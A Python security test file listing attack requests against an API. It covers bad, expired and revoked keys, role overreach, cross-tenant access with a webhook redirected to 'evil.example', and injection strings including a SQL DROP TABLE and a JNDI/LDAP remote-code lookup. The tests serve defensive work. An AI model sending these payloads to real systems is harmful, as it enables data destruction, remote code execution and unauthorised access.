"""Attacks on the API: by keys that are none, that may not, and that are another's."""

from typing import Final

from tests.web.attacks.form import API, ENTITY, POINTS, SEND, TOKENS, api, call, rows

KEYS: Final = rows(
    401,
    {
        "no key": call(f"GET {API}/sends"),
        "an empty key": call(f"GET {API}/sends", "Authorization: Bearer "),
        "a guessed key": api("GET /sends", "guessed"),
        "a key without its last letter": api("GET /sends", "reader_cut"),
        "a key with a letter more": api("GET /sends", "reader_longer"),
        "a key in capitals": api("GET /sends", "reader_capitals"),
        "the beginning of a key": api("GET /sends", "reader_prefix"),
        "the hash of a key": api("GET /sends", "reader_hash"),
        "an expired key": api("GET /sends", "expired"),
        "an expired key to send": api("POST /sends", "expired", body=SEND),
        "an expired key for points": api(f"GET {POINTS}", "expired"),
        "a revoked key": api("GET /sends", "revoked"),
        "a revoked key to delete": api(f"DELETE {POINTS}/<open_id>", "revoked"),
        "a revoked key, asked again": api("GET /sends", "revoked", 'If-None-Match: "x"'),
        "a hook token for a key": api("GET /sends", "open"),
        "a key as a password": call(f"GET {API}/sends", "Authorization: Basic <basic>"),
        "a key in the URL": call(f"GET {API}/sends?key=<reader>&access_token=<reader>"),
        "a key in a cookie": call(f"GET {API}/sends", "Cookie: key=<reader>; token=<reader>"),
        "two keys": api("GET /sends", "guessed", "Authorization: Bearer <reader>"),
        "a key that is no ASCII": call(f"GET {API}/sends", "Authorization: Bearer é\xff"),
        "a key of eight thousand letters": call(
            f"GET {API}/sends", f"Authorization: Bearer {'a' * 8000}"
        ),
        "metrics without a key": call("GET /metrics"),
    },
) | rows(
    403,
    {
        "raw receipts by a reader": api("GET /receipts?raw=true", "reader"),
        "raw messages by a reader": api("GET /messages?raw=true", "reader"),
        "a raw message by a reader": api("GET /messages/<tid>?raw=true", "reader"),
        "raw events by a reader": api("GET /events?raw=true", "reader"),
        "the audit log by a reader": api("GET /audit", "reader"),
        "a send by a reader": api("POST /sends", "reader", body=SEND),
        "a completion by a reader": api("PATCH /sends/<registered>", "reader", body='{"tag": "x"}'),
        "points by a reader": api(f"GET {POINTS}", "reader"),
        "a token by a reader": api(f"GET {TOKENS}/<open>", "reader"),
        "sends by a sender": api("GET /sends", "sender"),
        "changes by a sender": api("GET /changes", "sender"),
        "metrics by a sender": api("GET /metrics", "sender"),
        "a point by a key of one point": api(f"POST {POINTS}", "narrow", body=ENTITY),
    },
)

FOREIGN: Final = (
    rows(
        404,
        {
            f"{what} by {whose}": api(line, key, body=body)
            for whose, key in (("another domain", "key"), ("another point", "narrow"))
            for what, line, body in (
                ("a send by our id", "GET /sends/<send_id>", ""),
                ("a message", "GET /messages/<tid>", ""),
                ("a point", f"GET {POINTS}/<open_id>", ""),
                (
                    "a change of a point",
                    f"PATCH {POINTS}/<open_id>",
                    '{"url": "http://evil.example"}',
                ),
                ("the end of a point", f"DELETE {POINTS}/<open_id>", ""),
                ("a token", f"GET {TOKENS}/<open>", ""),
                ("the search for a token", f"LOOKUP {POINTS}", '"<open>"'),
                ("the search for a code", f"LOOKUP {POINTS}", '"<open_code>"'),
                ("the search for an id", f"LOOKUP {POINTS}", '"<open_id>"'),
                ("a completion", "PATCH /sends/<registered>", '{"transid": "stolen"}'),
            )
        },
    )
    | rows(
        409,
        {
            "a point with another's id": api(
                f"POST {POINTS}", "key", body='{"code": "a", "type": "b", "id": "<open_id>"}'
            ),
            "a point with another's token": api(
                f"POST {POINTS}", "key", body='{"code": "a", "type": "b", "token_local": "<open>"}'
            ),
        },
    )
    | rows(
        (200, 404),
        {
            "a send that is also the intruder's": api("GET /sends/<transid>", "key"),
            "all sends": api("GET /sends", "key"),
            "all receipts": api("GET /receipts?raw=true", "key"),
            "all messages": api("GET /messages?raw=true", "key"),
            "all changes": api("GET /changes?after=start&limit=1000", "key"),
            "all counts": api("GET /stats?by=point,tag", "key"),
            "all acts": api("GET /audit", "key"),
            "all points": api(f"GET {POINTS}", "key"),
            "a search by a number": api(
                "POST /sends/search", "key", body='{"destination": "<number>"}'
            ),
            "a conversation": api("POST /conversations", "key", body='{"number": "<number>"}'),
            "transids": api("POST /sends/lookup", "key", body='{"transids": ["<transid>"]}'),
            "metrics": api("GET /metrics", "key"),
        },
    )
)

INJECTIONS: Final = rows(
    (200, 400, 404),
    {
        f"{text} at {line}": api(f"GET {line}{text}", "key")
        for line in (
            "/sends?transid=",
            "/sends/",
            "/deliveries?code=",
            "/messages?from=",
            "/changes?after=",
            "/stats?by=",
            f"{POINTS}?order=",
            f"{POINTS}?filter=",
            f"{POINTS}?mask=",
            f"{POINTS}/",
        )
        for text in (
            "'%20OR%20'1'='1",
            "%25",
            "1);DROP%20TABLE%20sends;--",
            "%7B%22domain%22:%22<domain>%22%7D",
            "$%7Bjndi:ldap://192.0.2.1/a%7D",
            "%00",
        )
    },
)
